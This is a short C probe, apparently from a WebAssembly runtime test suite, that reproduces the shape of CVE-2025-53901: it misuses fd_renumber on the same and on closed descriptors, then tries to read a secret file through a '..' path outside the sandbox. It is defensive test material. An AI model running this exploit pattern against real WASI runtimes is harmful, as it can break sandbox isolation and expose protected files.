/* fd_renumber onto itself and onto a closed descriptor, then path_open (the shape of
   CVE-2025-53901), then try to read the secret through `..`. Wasm only. */
#include "probe.h"
#include <wasi/api.h>
int main(void) {
    int from = (int)param_int("fd");
    say("fd_renumber(%d, %d) -> errno %d\n", from, from, __wasi_fd_renumber(from, from));
    int f = open(join(param("rw"), "payload.txt"), O_RDONLY);
    say("open payload -> fd %d\n", f);
    int g = open(join(param("rw"), "other.txt"), O_CREAT | O_WRONLY, 0644);
    say("open other -> fd %d\n", g);
    if (g >= 0) say("close other -> errno %d\n", __wasi_fd_close(g));
    if (f >= 0 && g >= 0) say("fd_renumber(%d, closed %d) -> errno %d\n", f, g, __wasi_fd_renumber(f, g));
    int h = open(join(param("rw"), "third.txt"), O_CREAT | O_WRONLY, 0644);
    say("open third -> fd %d (%s)\n", h, err(h));
    try_read("after-renumber", join(join(param("rw"), param("out_rel")), "secret.txt"));
    return done();
}
